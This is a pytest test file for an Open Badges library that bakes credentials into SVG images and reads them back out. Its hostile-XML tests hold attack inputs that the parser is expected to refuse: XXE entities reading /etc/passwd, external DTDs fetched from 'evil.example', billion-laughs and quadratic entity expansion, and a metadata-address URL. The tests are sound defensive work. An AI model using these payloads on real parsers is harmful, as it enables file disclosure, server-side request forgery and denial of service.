"""Credentials in SVG pictures: one line of the table in `baking.svg` after the other, and hostile XML refused."""

import contextlib
import json
import time
import xml.etree.ElementTree as ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hexmark.openbadges import limits
from hexmark.openbadges.baking import bake, image_type, unbake
from hexmark.openbadges.errors import BakedError, FormatError, Malformed, TooLarge

CREDENTIAL = '{"id":"urn:uuid:1","name":"Großes <Schweißen> & \\"mehr\\" 🏅"}'
JWS = "eyJhbGciOiJFZERTQSJ9.eyJpZCI6InVybjp1dWlkOjEifQ.c2lnbmF0dXJl"
NS = 'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'
SVG = 'xmlns="http://www.w3.org/2000/svg"'
ONE = f'<openbadges:credential verify="{JWS}"/>'


def picture(inside: str = "", *, root: str = f"{SVG} {NS}", before: str = "") -> bytes:
    return f"{before}<svg {root}>{inside}<g><path d='M0 0'/></g></svg>".encode()


def refusal(error: type[FormatError], image: bytes) -> str:
    with pytest.raises(error) as caught:
        unbake(image)
    return caught.value.full_code


# Baking

PLAIN = f'<?xml version="1.0"?>\r\n<!-- > " -->\n<svg {SVG} width="1"\n  data-x=\'a>b\' >\t<g/>&#13;</svg>\n\n'.encode()


@pytest.mark.parametrize("credential", [CREDENTIAL, JWS, '{"a":"]]>"}', '{"a":"]]]]>>"}', '\r\n{"a":1,\r"b":"\u2028\x7f\x85"}\n '])
def test_what_was_baked_comes_out_unchanged(credential):
    assert unbake(bake(PLAIN, credential)) == credential


def test_a_signed_text_stands_in_the_verify_attribute_of_the_first_element():
    element = f'<openbadges:credential verify="{JWS}"></openbadges:credential>'.encode()
    baked = bake(PLAIN, JWS)
    assert baked == PLAIN.replace(b"<svg ", f"<svg {NS} ".encode()).replace(b"b' >", b"b' >" + element)


def test_json_stands_as_cdata_in_the_body():
    assert f"<openbadges:credential><![CDATA[{CREDENTIAL}]]></openbadges:credential>".encode() in bake(PLAIN, CREDENTIAL)


def test_another_xml_reader_sees_the_same_credential():
    root = ElementTree.fromstring(bake(PLAIN, CREDENTIAL))
    assert root[0].tag == "{https://purl.imsglobal.org/ob/v3p0}credential"
    assert root[0].text == CREDENTIAL


def test_every_other_byte_of_the_picture_stays_as_it_was():
    baked = bake(PLAIN, JWS)
    element = baked[baked.index(b"<openbadges") : baked.index(b"</openbadges:credential>") + len(b"</openbadges:credential>")]
    assert baked.replace(element, b"").replace(f" {NS}".encode(), b"") == PLAIN


def test_baking_again_replaces_the_credential():
    once = bake(PLAIN, JWS)
    assert bake(once, CREDENTIAL) == bake(PLAIN, CREDENTIAL)
    assert bake(bake(once, CREDENTIAL), JWS) == once


@pytest.mark.parametrize(
    "inside",
    [
        ONE,
        ONE + ONE,
        f"<defs>{ONE}</defs>",
        f"<openbadges:credential><x>{ONE}</x></openbadges:credential>",
        f'<openbadges:credential data-x="/>" verify="{JWS}" ></openbadges:credential >',
        "<o:assertion xmlns:o='http://openbadges.org' verify='https://old.example/1'/>",
    ],
)
def test_baking_takes_every_older_badge_out(inside):
    baked = bake(picture(inside), CREDENTIAL)
    assert unbake(baked) == CREDENTIAL
    assert baked.count(b"verify") == 0


def test_a_prefix_that_the_root_uses_for_something_else_keeps_its_meaning():
    old = picture("<openbadges:thing/>", root=f'{SVG} xmlns:openbadges="http://openbadges.org"')
    for credential in (CREDENTIAL, JWS):
        baked = bake(old, credential)
        assert unbake(baked) == credential
        assert ElementTree.fromstring(baked)[1].tag == "{http://openbadges.org}thing"


@pytest.mark.parametrize("svg", [f"<svg {SVG}/>", f"<svg {SVG} />", '<s:svg xmlns:s="http://www.w3.org/2000/svg"/>', "<svg/>", "<svg\n/>"])
def test_an_empty_picture_can_be_baked_into(svg):
    assert unbake(bake(svg.encode(), CREDENTIAL)) == CREDENTIAL


def test_a_byte_order_mark_of_utf_8_stays_and_does_not_shift_anything():
    marked = b"\xef\xbb\xbf" + PLAIN
    baked = bake(marked, JWS)
    assert baked == b"\xef\xbb\xbf" + bake(PLAIN, JWS)
    assert unbake(baked) == JWS


def test_letters_of_several_bytes_before_the_credential_do_not_shift_anything():
    image = picture(f"<title>Großes Schweißen 🏅</title>{ONE}<desc>äöü</desc>", before="<!-- ÄÖÜ🏅 -->")
    assert unbake(bake(image, CREDENTIAL)) == CREDENTIAL
    assert "<title>Großes Schweißen 🏅</title><desc>äöü</desc>".encode() in bake(image, CREDENTIAL)


def test_what_xml_cannot_write_is_escaped_in_the_json_and_means_the_same():
    baked = unbake(bake(PLAIN, '{"a":"\ufffe\uffff"}'))
    assert baked == '{"a":"\\ufffe\\uffff"}'
    assert json.loads(baked) == {"a": "\ufffe\uffff"}


@pytest.mark.parametrize("credential", ["", "hello", "a.b", 'a.b."', "[]", '{"a":"\udfff"}', '{"a":"\x00"}'])
def test_what_is_no_credential_is_not_baked(credential):
    with pytest.raises(Malformed):
        bake(PLAIN, credential)


# Unbaking, line by line


def test_published_samples_hold_their_credentials(reference_data):
    samples = reference_data / "vectors" / "ob-samples" / "valid"
    assert json.loads(unbake((samples / "simple-json.svg").read_bytes()))["proof"]
    assert unbake((samples / "simple-jwt.svg").read_bytes()).count(".") == 2


@pytest.mark.parametrize(
    "inside",
    [
        "<![CDATA[{}]]>",
        "{}",
        "&#123;&#x7d;",
        "<![CDATA[{]]>}",
        "<!-- the badge --><![CDATA[{}]]>",
        "{<?pi?>}",
    ],
)
def test_json_in_the_body_is_read_however_it_is_written(inside):
    assert unbake(picture(f"<openbadges:credential>{inside}</openbadges:credential>")) == "{}"


def test_what_was_escaped_twice_is_read_once():
    inside = "<openbadges:credential>{&quot;a&quot;:&quot;&amp;quot;&quot;}</openbadges:credential>"
    assert unbake(picture(inside)) == '{"a":"&quot;"}'


def test_a_signed_text_may_have_a_body_of_white_space_and_stand_anywhere_below_the_root():
    image = f'<svg {SVG} {NS}><g/><openbadges:credential verify="{JWS}">\n </openbadges:credential></svg>'
    assert unbake(image.encode()) == JWS


def test_the_prefix_does_not_matter_and_the_namespace_does():
    assert unbake(picture(f'<credential xmlns="https://purl.imsglobal.org/ob/v3p0" verify="{JWS}"/>')) == JWS
    assert refusal(BakedError, picture(ONE, root=f'{SVG} xmlns:openbadges="https://evil.example"')) == "BAKED_NOT_FOUND/WRONG_NAMESPACE"
    assert refusal(BakedError, picture(ONE, root=f'{SVG} {NS[:-1]}/"')) == "BAKED_NOT_FOUND/WRONG_NAMESPACE"
    assert refusal(BakedError, picture(f'<credential verify="{JWS}"/>')) == "BAKED_NOT_FOUND/WRONG_NAMESPACE"


def test_an_attribute_in_a_namespace_is_not_the_verify_attribute():
    assert refusal(BakedError, picture(f'<openbadges:credential openbadges:verify="{JWS}"/>')) == "BAKED_NOT_FOUND/EMPTY"


@pytest.mark.parametrize(
    "inside",
    [
        ONE + ONE,
        ONE + "<openbadges:credential>{}</openbadges:credential>",
        f"{ONE}<defs>{ONE}</defs>",
        f"<defs>{ONE}</defs>{ONE}",
        f"<openbadges:credential>{ONE}</openbadges:credential>",
        f'<openbadges:credential verify="{JWS}">{{}}</openbadges:credential>',
        f'<openbadges:credential verify="{JWS}"><![CDATA[{JWS}]]></openbadges:credential>',
        f"{ONE}<o:assertion xmlns:o='http://openbadges.org' verify='https://old.example/1'/>",
    ],
)
def test_two_badges_in_one_picture_are_refused(inside):
    assert refusal(BakedError, picture(inside)) == "BAKED_AMBIGUOUS"


@pytest.mark.parametrize(
    ("inside", "detail"),
    [
        ("", ""),
        (f"<![CDATA[{ONE}]]>", ""),
        (f"<!-- {ONE} -->", ""),
        (ONE.replace("<", "&lt;"), ""),
        (f"<defs>{ONE}</defs>", "/NOT_CHILD_OF_ROOT"),
        (f"<metadata><g>{ONE}</g></metadata>", "/NOT_CHILD_OF_ROOT"),
        ("<openbadges:credential/>", "/EMPTY"),
        ('<openbadges:credential verify=""> \n</openbadges:credential>', "/EMPTY"),
        ("<openbadges:credential>{}<b/></openbadges:credential>", "/ELEMENTS"),
        ("<openbadges:assertion/>", ""),
        ("<o:assertion xmlns:o='http://openbadges.org' verify='http://169.254.169.254/'/>", "/OPEN_BADGES_2"),
    ],
)
def test_what_is_not_a_credential_in_its_place_is_not_found(inside, detail):
    assert refusal(BakedError, picture(inside)) == f"BAKED_NOT_FOUND{detail}"


# Hostile XML

DOCTYPES = [
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE test [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    '<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd">',
    '<!DOCTYPE svg PUBLIC "-//EVIL//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY x "y">]>',
    "<!DOCTYPE svg>",
    "<!DOCTYPE svg []>",
    '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    '<!DOCTYPE quadratic [<!ENTITY a "' + "a" * 50_000 + '">]>',
    '<?xml version="1.0"?><!-- harmless --><!DOCTYPE svg [<!ATTLIST g onload CDATA "alert(1)">]>',
]


@pytest.mark.parametrize("doctype", DOCTYPES)
def test_a_document_type_is_refused_with_all_that_it_could_bring(doctype):
    assert refusal(BakedError, picture("&c;" + ONE, before=doctype)) == "XML_DTD_FORBIDDEN"
    with pytest.raises(BakedError):
        bake(picture(before=doctype), CREDENTIAL)


PUBLIC = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'


@pytest.mark.parametrize(
    "doctype",
    [
        PUBLIC,
        '<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: some program -->\n' + PUBLIC,
        "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.0//EN'\n 'http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd' >",
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 20010904//EN" "http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd">',
    ],
)
def test_the_public_document_types_of_svg_are_read_over_and_kept(doctype):
    image = picture(before=doctype)
    baked = bake(image, CREDENTIAL)
    assert unbake(baked) == CREDENTIAL
    assert doctype.encode() in baked


@pytest.mark.parametrize("inside", ['<openbadges:credential verify="a.b&x;.c"/>', "<openbadges:credential>{&x;}</openbadges:credential>"])
def test_an_unknown_entity_does_not_vanish_behind_a_public_document_type(inside):
    assert refusal(BakedError, picture(inside, before=PUBLIC)) == "SVG_MALFORMED"


@pytest.mark.parametrize("declared", ["UTF-7", "UTF-16", "ISO-8859-1", "EBCDIC-CP-US", "windows-1252", ""])
def test_another_declared_encoding_is_refused(declared):
    assert refusal(BakedError, picture(ONE, before=f'<?xml version="1.0" encoding="{declared}"?>')) == "XML_ENCODING"


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "cp037"])
def test_another_encoding_is_refused(codec):
    text = '<?xml version="1.0"?>' + picture(ONE).decode()
    assert refusal(BakedError, text.encode(codec)) == "XML_ENCODING"


def test_bytes_that_are_not_utf_8_are_refused():
    assert refusal(BakedError, picture("\x00").replace(b"\x00", b"\xff")) == "XML_ENCODING"
    assert refusal(BakedError, b"+ADw-svg+AD4-") == "TYPE_MISMATCH"


@pytest.mark.parametrize(
    "image",
    [
        picture(ONE)[:-1],
        picture(ONE) + b"<more/>",
        picture("<g>"),
        picture(ONE, root=SVG),
        picture("\x0b"),
        picture('<g a="1" a="2"/>'),
        b'<?xml version="1.0" version="1.0"?><svg/>',
    ],
)
def test_what_is_not_well_formed_is_refused(image):
    assert refusal(BakedError, image) == "SVG_MALFORMED"


@pytest.mark.parametrize(
    "image", [b"<svgx/>", b"<x:svg.z/>", b"<html/>", b"<?xml version='1.0'?><html/>", b"<!DOCTYPE HTML><svg/>", b"svg"]
)
def test_what_is_no_svg_picture_is_refused(image):
    assert refusal(BakedError, image) == "TYPE_MISMATCH"


def test_a_root_called_svg_in_another_namespace_is_no_svg_picture():
    assert refusal(BakedError, b'<svg xmlns="urn:other"/>') == "TYPE_MISMATCH"
    assert image_type(picture()) == "svg"


@pytest.mark.parametrize(
    "inside",
    [
        "<path d='" + "M0 0 " * 10_000_000 + "'/>",
        "<a/>" * 1_000_000,
        "<g>" * 10_000 + "</g>" * 10_000,
    ],
    ids=["50 MB", "a million elements", "ten thousand deep"],
)
def test_a_picture_that_is_too_large_is_refused_in_time(inside):
    image = picture(inside)
    began = time.process_time()
    assert refusal(TooLarge, image).startswith("SVG_TOO_LARGE/")
    assert time.process_time() - began < 1


@pytest.mark.parametrize(
    "image",
    [
        b"<!--" + b"-" * 1_000_000,
        b"<!-- a" * 200_000,
        b"<?" * 500_000,
        b" " * 1_000_000,
        b"<?xml " + b"encoding" * 100_000,
        b"<svg " + b"a='" * 300_000,
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG ' + b" " * 1_000_000,
    ],
)
def test_a_hostile_beginning_costs_no_time(image):
    began = time.process_time()
    with pytest.raises(BakedError):
        unbake(image)
    assert time.process_time() - began < 0.5


@pytest.mark.parametrize("inside", ["<openbadges:credential>{%s}</openbadges:credential>", '<openbadges:credential verify="%s"/>'])
def test_a_credential_larger_than_any_document_is_refused(inside):
    assert refusal(TooLarge, picture(inside % (" a" * (limits.DOCUMENT_BYTES // 2) + "a"))) == "BAKED_TOO_LARGE"


# Properties

XML_TEXT = st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff") | st.sampled_from("]>&<\r\n\t"))


@given(XML_TEXT)
def test_baking_and_unbaking_are_each_other_s_inverse(text):
    credential = f'{{"a":{text}}}'
    assert unbake(bake(PLAIN, credential)) == credential


@given(st.dictionaries(st.text(max_size=8), st.text(max_size=30), max_size=5))
def test_any_json_comes_out_meaning_the_same(document):
    assert json.loads(unbake(bake(PLAIN, json.dumps(document, ensure_ascii=False)))) == document


GOOD = bake(PLAIN, CREDENTIAL)


@given(st.integers(0, len(GOOD) - 1), st.binary(max_size=12), st.integers(0, 12))
def test_hostile_changes_are_read_or_refused_and_nothing_else_happens(position, inserted, removed):
    changed = GOOD[:position] + inserted + GOOD[position + removed :]
    with contextlib.suppress(BakedError, TooLarge):
        unbake(changed)
    with contextlib.suppress(BakedError, TooLarge):
        assert unbake(bake(changed, JWS)) == JWS


@given(st.binary(max_size=100), st.sampled_from([b"", b"<svg", b"<svg>", b"<?xml", b"<!DOCTYPE"]))
def test_hostile_bytes_are_refused_and_nothing_else_happens(noise, start):
    with pytest.raises(BakedError):
        unbake(start + noise)
